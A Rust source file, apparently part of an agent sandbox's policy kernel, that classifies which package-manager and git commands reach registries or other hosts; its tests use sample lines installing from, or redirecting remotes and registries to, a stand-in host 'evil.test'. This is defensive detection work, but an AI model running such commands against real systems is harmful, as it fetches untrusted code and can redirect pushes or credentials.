//! Package managers: which of their subcommands ask a registry for something, and which send there.

use super::Via;
use super::net::{git_host, host_of};
use crate::kernel::charter::Charter;
use crate::protocol::Effect;
use crate::syntax::shell::{SimpleCommand, Word};

/// One package manager. A subcommand of two words stands as `"mod download"`; `""` is none at all.
struct Manager {
    programs: &'static [&'static str],
    /// They ask: what they send is the names of packages.
    asks: &'static [&'static str],
    /// They send something of ours.
    sends: &'static [&'static str],
    /// Where no table of registries was handed in.
    registry: &'static str,
}

const MANAGERS: &[Manager] = &[
    Manager {
        programs: &["npm"],
        asks: &[
            "install", "i", "ci", "add", "update", "up", "audit", "outdated", "view", "info", "show",
            "search",
        ],
        sends: &["publish", "unpublish", "deprecate", "login", "adduser", "dist-tag", "owner", "token"],
        registry: "registry.npmjs.org",
    },
    Manager {
        programs: &["pnpm", "bun"],
        asks: &["install", "i", "add", "update", "up", "fetch", "dlx", "x", "outdated", "audit"],
        sends: &["publish", "login"],
        registry: "registry.npmjs.org",
    },
    Manager {
        programs: &["yarn"],
        asks: &["", "install", "add", "up", "upgrade", "dlx", "outdated", "npm audit", "npm info"],
        sends: &["publish", "npm publish", "npm login", "login"],
        registry: "registry.yarnpkg.com",
    },
    Manager {
        programs: &["pip", "pip3", "pipx"],
        asks: &["install", "download", "index", "wheel", "upgrade"],
        sends: &["search"],
        registry: "pypi.org",
    },
    Manager {
        programs: &["uv"],
        asks: &[
            "sync",
            "add",
            "lock",
            "pip install",
            "pip sync",
            "pip compile",
            "tool install",
            "python install",
        ],
        sends: &["publish"],
        registry: "pypi.org",
    },
    Manager {
        programs: &["poetry", "pdm"],
        asks: &["install", "add", "update", "lock", "sync", "self update"],
        sends: &["publish"],
        registry: "pypi.org",
    },
    Manager { programs: &["twine"], asks: &[], sends: &["upload", "register"], registry: "upload.pypi.org" },
    Manager {
        programs: &["cargo"],
        asks: &["install", "add", "update", "fetch", "search", "info", "generate-lockfile", "vendor"],
        sends: &["publish", "yank", "login", "logout", "owner"],
        registry: "index.crates.io",
    },
    Manager {
        programs: &["rustup"],
        asks: &["update", "install", "toolchain install", "target add", "component add", "check"],
        sends: &[],
        registry: "static.rust-lang.org",
    },
    Manager {
        programs: &["go"],
        asks: &["get", "install", "mod download", "mod tidy", "mod vendor", "mod verify", "work sync"],
        sends: &[],
        registry: "proxy.golang.org",
    },
    Manager {
        programs: &["gem"],
        asks: &["install", "update", "fetch", "outdated", "search"],
        sends: &["push", "yank", "signin", "owner"],
        registry: "rubygems.org",
    },
    Manager {
        programs: &["bundle", "bundler"],
        asks: &["", "install", "update", "add", "lock", "outdated"],
        sends: &[],
        registry: "rubygems.org",
    },
    Manager {
        programs: &["composer"],
        asks: &["install", "i", "update", "require", "create-project", "outdated", "audit"],
        sends: &[],
        registry: "repo.packagist.org",
    },
    Manager {
        programs: &["mvn", "mvnw"],
        asks: &["dependency:go-offline", "dependency:resolve", "dependency:tree", "dependency:get"],
        sends: &["deploy"],
        registry: "repo.maven.apache.org",
    },
    Manager {
        programs: &["gradle", "gradlew"],
        asks: &["dependencies"],
        sends: &["publish", "publishPlugins"],
        registry: "plugins.gradle.org",
    },
    Manager {
        programs: &["dotnet"],
        asks: &["restore", "add package", "tool install", "tool restore"],
        sends: &["nuget push", "nuget delete"],
        registry: "api.nuget.org",
    },
    Manager {
        programs: &["mix"],
        asks: &["deps.get", "deps.update", "local.hex", "local.rebar", "archive.install"],
        sends: &["hex.publish", "hex.user"],
        registry: "repo.hex.pm",
    },
    Manager {
        programs: &["apt", "apt-get"],
        asks: &["update", "install", "upgrade"],
        sends: &[],
        registry: "the package mirror",
    },
    Manager {
        programs: &["brew"],
        asks: &["install", "update", "upgrade"],
        sends: &[],
        registry: "formulae.brew.sh",
    },
    Manager {
        programs: &["docker"],
        asks: &["pull"],
        sends: &["push", "login"],
        registry: "registry-1.docker.io",
    },
];

/// What a package manager's command reaches: its registry, and any other source that its words name.
pub(super) fn effects(charter: &Charter, program: &str, command: &SimpleCommand) -> Vec<(Effect, Via)> {
    let Some(manager) = MANAGERS.iter().find(|manager| manager.programs.contains(&program)) else {
        return Vec::new();
    };
    // `cargo +nightly fetch`
    let mut words = command.operands().map(|word| word.text.as_str()).filter(|text| !text.starts_with('+'));
    let first = words.next().unwrap_or_default();
    let two = words.next().map(|second| format!("{first} {second}"));
    let named = |list: &[&str]| list.iter().any(|known| *known == first || two.as_deref() == Some(*known));
    let informs = ["--help", "-h", "--version", "-V", "-v"].iter().any(|flag| command.has_flag(flag));
    // What is installed is known here; what is newer is not.
    let newer = manager.registry == "pypi.org"
        && first == "list"
        && ["-o", "--outdated", "-u", "--uptodate"].iter().any(|flag| command.has_flag(flag));
    let via = match (named(manager.sends), named(manager.asks) || newer) {
        (true, _) => Via::Word,
        (false, true) if first.is_empty() && informs => return Vec::new(),
        (false, true) => Via::Registry,
        (false, false) => return Vec::new(),
    };
    let local = program.starts_with("bundle") && command.has_flag("--local");
    if local || ["--offline", "--no-index"].iter().any(|flag| command.has_flag(flag)) {
        return Vec::new();
    }
    let mut found: Vec<(Effect, Via)> = Vec::new();
    match charter.registries.iter().find(|(known, _)| known == program) {
        Some((_, hosts)) if via == Via::Registry => {
            found.extend(hosts.iter().map(|host| (Effect::net(host, Some(443)), via)));
        }
        _ => found.push((Effect::net(manager.registry, Some(443)), via)),
    }
    let assigned = command.assignments.iter().map(|(_, word)| word);
    let others = command.args().iter().skip(1).chain(assigned).filter_map(|word| other_source(manager, word));
    found.extend(others.map(|effect| (effect, Via::Word)));
    found
}

/// A host that a word names instead of the registry: `git+https://…`, `--index-url=…`, `user/repo`.
fn other_source(manager: &Manager, word: &Word) -> Option<Effect> {
    let text = word.text.as_str();
    if let Some((before, rest)) = text.split_once("://") {
        if before.ends_with("file") {
            return None;
        }
        return Some(host_of(word, rest));
    }
    if text.starts_with("git@") {
        return git_host(text);
    }
    if manager.registry != "registry.npmjs.org" && manager.registry != "registry.yarnpkg.com" {
        return None;
    }
    for (prefix, host) in [
        ("github:", "github.com"),
        ("gitlab:", "gitlab.com"),
        ("bitbucket:", "bitbucket.org"),
        ("gist:", "gist.github.com"),
    ] {
        if text.starts_with(prefix) {
            return Some(Effect::net(host, Some(443)));
        }
    }
    let repository = !text.starts_with(['-', '@', '.', '/', '~']) && text.matches('/').count() == 1;
    repository.then(|| Effect::net("github.com", Some(443)))
}

#[cfg(test)]
mod tests {
    use crate::kernel::effects::{Via, prepare};
    use crate::kernel::testing::World;
    use crate::protocol::Effect;

    /// Host and class of every `Net` effect of a line, such as `pypi.org R`.
    fn reached(world: &World, line: &str) -> Vec<String> {
        let spec = world.charter.tools.iter().find(|spec| spec.name == "bash").unwrap();
        let prepared = prepare(&world.charter, spec, &world.call("bash", line)).unwrap();
        let facts = prepared.facts.iter().filter_map(|fact| match &fact.effect {
            Effect::Net { host, port, .. } => {
                let class = match fact.via {
                    Via::Registry => "R",
                    Via::Remote => "G",
                    _ => "W",
                };
                let port = port.filter(|port| *port != 443).map_or(String::new(), |port| format!(":{port}"));
                Some(format!("{host}{port} {class}"))
            }
            _ => None,
        });
        facts.collect()
    }

    fn world() -> World {
        let mut world = World::new();
        let table = [
            ("cargo", &["index.crates.io", "static.crates.io"][..]),
            ("npm", &["registry.npmjs.org"]),
            ("pip", &["pypi.org", "files.pythonhosted.org"]),
            ("go", &["proxy.golang.org", "sum.golang.org"]),
        ];
        world.charter.registries = table
            .iter()
            .map(|(program, hosts)| {
                ((*program).to_owned(), hosts.iter().map(|host| (*host).to_owned()).collect())
            })
            .collect();
        world.charter.remotes = [
            ("origin", "https://github.com/a/b.git"),
            ("fork", "git@git.example.org:me/b.git"),
            ("mirror", "/srv/git/b.git"),
            ("odd", "ssh://git@odd.test:2222/b"),
        ]
        .map(|(name, url)| (name.to_owned(), url.to_owned()))
        .to_vec();
        world
    }

    #[test]
    fn a_package_manager_reaches_its_registry_and_what_its_words_name() {
        let world = world();
        for (line, expected) in [
            ("cargo fetch", "index.crates.io R, static.crates.io R"),
            ("cargo +nightly fetch", "index.crates.io R, static.crates.io R"),
            ("cargo build", ""),
            ("cargo fetch --offline", ""),
            ("cargo publish", "index.crates.io W"),
            ("cargo install --git https://evil.test/x", "index.crates.io R, static.crates.io R, evil.test W"),
            ("npm ci", "registry.npmjs.org R"),
            ("npm install left-pad @scope/name ./local", "registry.npmjs.org R"),
            ("npm i someone/thing", "registry.npmjs.org R, github.com W"),
            ("npm i github:a/b", "registry.npmjs.org R, github.com W"),
            ("npm install --registry=http://evil.test:81/", "registry.npmjs.org R, evil.test:81 W"),
            ("npm_config_registry=https://evil.test npm ci", "registry.npmjs.org R, evil.test W"),
            ("npm publish", "registry.npmjs.org W"),
            ("npm test", ""),
            ("pip install requests", "pypi.org R, files.pythonhosted.org R"),
            (
                "pip install -i https://u:p@evil.test/simple x",
                "pypi.org R, files.pythonhosted.org R, evil.test W",
            ),
            ("pip install git+ssh://git@evil.test/x", "pypi.org R, files.pythonhosted.org R, evil.test W"),
            ("pip install --no-index x", ""),
            ("pip install file:///tmp/x.whl", "pypi.org R, files.pythonhosted.org R"),
            ("pip --version", ""),
            ("pip list", ""),
            ("pip list --format=json", ""),
            ("pip list --outdated", "pypi.org R, files.pythonhosted.org R"),
            ("uv pip install x", "pypi.org R"),
            ("bundle install", "rubygems.org R"),
            ("bundle install --local", ""),
            ("go mod download", "proxy.golang.org R, sum.golang.org R"),
            ("go mod edit -json", ""),
            ("go test ./...", ""),
            ("yarn", "registry.yarnpkg.com R"),
            ("yarn --version", ""),
            ("yarn build", ""),
            ("twine upload dist/x", "upload.pypi.org W"),
        ] {
            assert_eq!(reached(&world, line).join(", "), expected, "{line}");
        }
    }

    #[test]
    fn a_remote_counts_as_configured_only_while_nothing_in_the_line_bends_it() {
        let world = world();
        std::fs::create_dir_all(world.charter.workspace.join("plain")).unwrap();
        for (line, expected) in [
            ("git fetch", "github.com G"),
            ("git fetch origin main", "github.com G"),
            ("git pull --rebase fork", "git.example.org:22 G"),
            ("git fetch https://github.com/a/b.git", "github.com G"),
            ("git fetch https://evil.test/a/b.git", "evil.test W"),
            ("git fetch --all", "github.com G, git.example.org:22 G, odd.test:2222 G"),
            ("git remote update", "github.com G, git.example.org:22 G, odd.test:2222 G"),
            ("git fetch mirror", ""),
            ("git ls-remote odd", "odd.test:2222 G"),
            ("git push origin main", "github.com W"),
            ("git push", "github.com W"),
            ("git push fork", "git.example.org:22 W"),
            ("git -c remote.origin.url=https://evil.test fetch", "git remote origin W"),
            ("git -C elsewhere fetch", "git remote origin W"),
            ("GIT_SSH_COMMAND=x git fetch fork", "git remote fork W"),
            ("git remote set-url origin https://evil.test/ && git fetch origin", "git remote origin W"),
            ("git config remote.origin.url x; git fetch", "git remote origin W"),
            ("git fetch --upload-pack=x origin", "git remote origin W"),
            ("cd plain && git fetch", "github.com G"),
            ("cd sub && git fetch", "git remote origin W"),
            ("cd .. && git fetch", "git remote origin W"),
            ("git fetch unknown", "git remote unknown W"),
            ("git clone https://github.com/c/d", "github.com W"),
            ("git status", ""),
        ] {
            assert_eq!(reached(&world, line).join(", "), expected, "{line}");
        }
    }
}
